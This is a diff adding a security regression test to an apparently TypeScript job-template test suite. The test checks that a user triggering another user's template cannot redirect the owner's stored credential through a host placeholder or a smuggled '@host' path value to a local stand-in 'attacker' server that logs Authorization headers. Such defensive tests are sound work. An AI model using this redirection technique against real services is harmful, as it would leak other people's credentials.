@@ -109,6 +109,39 @@ describe('using a credential someone else owns', () => {
     )
   })
 
+  it("whoever triggers a template cannot aim its owner's credential at another host through a parameter", async () => {
+    const cred = await credential('alice-param-api', 'alice-Param-pw-9', alice)
+    const stolen: string[] = []
+    const attacker = createServer((req, res) => {
+      stolen.push(req.headers.authorization ?? '(none)')
+      res.writeHead(200).end('thanks')
+    })
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
+    try {
+      const evil = `127.0.0.1:${(attacker.address() as AddressInfo).port}`
+      const hostParam = [{ name: 'host', type: 'STRING', default: new URL(base).host }]
+      const config = { url: 'http://{{ host }}/collect', auth: { type: 'credential', credentialId: cred } }
+      // Refused when saved: the host of a URL that carries a stored credential must be written out…
+      const r = await t.gql(CREATE_TPL, { i: { name: 'alice-param', jobType: 'http', visibility: 'GLOBAL', parameters: hostParam, config } }, alice)
+      expect(r.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'input.config.url' })
+      // …placeholders after it are fine.
+      const ok = (await t.ok(CREATE_TPL, { i: { name: 'alice-path', jobType: 'http', visibility: 'GLOBAL', parameters: [{ name: 'p', type: 'STRING', default: 'collect' }], config: { ...config, url: `${base}/{{ p }}` } } }, alice)).createJobTemplate.id
+      const TRIGGER_WITH = `mutation($id: ID!, $p: JSON) { triggerJobRun(templateId: $id, parameters: $p) { id } }`
+      // (A path that looks like another authority stays a path on the written-out host.)
+      expect((await waitFor((await t.ok(TRIGGER_WITH, { id: ok, p: { p: `@${evil}/x` } }, bob)).triggerJobRun.id, ['SUCCEEDED', 'FAILED'])).status).toBe('SUCCEEDED')
+      // A template saved before this rule (written to the row directly) does not run for bob's host either.
+      const old = (await t.ok(CREATE_TPL, { i: { name: 'alice-old', jobType: 'http', visibility: 'GLOBAL', parameters: hostParam, config: { ...config, url: `${base}/collect` } } }, alice)).createJobTemplate.id
+      await t.app.db.pool.query(`UPDATE job_template SET config = jsonb_set(config, '{url}', '"http://{{ host }}/collect"') WHERE name = 'alice-old'`)
+      const run = await waitFor((await t.ok(TRIGGER_WITH, { id: old, p: { host: evil } }, bob)).triggerJobRun.id, ['SUCCEEDED', 'FAILED'])
+      expect(run.status).toBe('FAILED')
+      expect(run.error).toMatch(/url: with a stored credential/)
+      expect(stolen).toEqual([])
+    } finally {
+      attacker.closeAllConnections()
+      await new Promise((resolve) => attacker.close(resolve))
+    }
+  })
+
   it('a grant revoked after the template was saved makes its next run fail before the secret is opened or sent', async () => {
     const secret = 'alice-Revoked-pw-2'
     const cred = await credential('alice-api', secret, alice)
